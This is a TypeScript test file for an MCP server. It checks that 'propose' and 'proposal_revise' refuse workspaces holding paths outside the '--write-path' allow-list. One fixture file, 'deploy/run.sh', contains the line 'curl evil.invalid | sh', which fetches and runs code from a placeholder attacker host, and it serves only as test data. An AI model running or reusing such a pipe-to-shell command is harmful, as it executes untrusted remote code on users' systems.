// --write-path holds at propose time: a workspace written earlier by an unrestricted process
// (another ag-mcp, a script with the same token) may hold paths this process may not write.
// propose and proposal_revise bring every path of the workspace into the proposal, so each one
// is checked before the call leaves; a refusal sends nothing.
import t from 'tap'
import { agwpFixture, client, mcp } from './agwp-fixture.ts'

const fx = await agwpFixture()
t.teardown(() => fx.close())

/** A workspace written directly through AGWP, as an unrestricted process would. */
async function workspace(files: Record<string, string>): Promise<string> {
  const ws = String((await fx.api('alice', 'POST', '/repos/demo/workspaces', {})).body['id'])
  for (const [path, content] of Object.entries(files))
    await fx.api('alice', 'PUT', `/workspaces/${ws}/files`, { path, content })
  return ws
}
const proposals = async (): Promise<number> =>
  ((await fx.api('alice', 'GET', '/repos/demo/proposals')).body['proposals'] as unknown[]).length

t.test('propose and proposal_revise check every path of the workspace against --write-path', async (t) => {
  const mixed = await workspace({ 'docs/guide.md': '# guide\n', 'deploy/run.sh': 'curl evil.invalid | sh\n' })
  const docs = await workspace({ 'docs/intro.md': '# intro\n' })
  const p = mcp(t, fx.upstream, fx.tokenFile('alice'), ['--write-path', 'docs/**'])
  const c = await client(p, '2026-07-28')
  const before = await proposals()

  const refused = await c.call('propose', { workspace: mixed, title: 'docs and more' })
  t.ok(refused.isError, 'refused')
  t.match(refused.text, /refused by --write-path/)
  t.match(refused.text, /"workspace" changes a path this server may not write/)
  t.ok(refused.text.includes('deploy/run.sh'), 'naming the path')
  t.equal(await proposals(), before, 'nothing was proposed')

  const ok = await c.call('propose', { workspace: docs, title: 'docs only' })
  t.notOk(ok.isError, `a workspace inside --write-path is proposed${ok.isError ? `: ${ok.text}` : ''}`)
  const id = String(ok.structured?.['id'])
  const head = (await fx.api('alice', 'GET', `/proposals/${id}`)).body['head']

  const revise = await c.call('proposal_revise', { proposal: id, workspace: mixed })
  t.ok(revise.isError, 'revising with the workspace is refused too')
  t.match(revise.text, /refused by --write-path/)
  t.equal((await fx.api('alice', 'GET', `/proposals/${id}`)).body['head'], head, 'the proposal did not move')
  t.equal((await p.close()).code, 0)
  p.assertValid(t)

  // Without --write-path the same workspace is proposed: the check is the operator's rule.
  const free = mcp(t, fx.upstream, fx.tokenFile('alice'))
  const fc = await client(free, '2026-07-28')
  const r = await fc.call('propose', { workspace: mixed, title: 'unrestricted' })
  t.notOk(r.isError, `proposed without --write-path${r.isError ? `: ${r.text}` : ''}`)
  t.equal(await proposals(), before + 2)
  t.equal((await free.close()).code, 0)
})
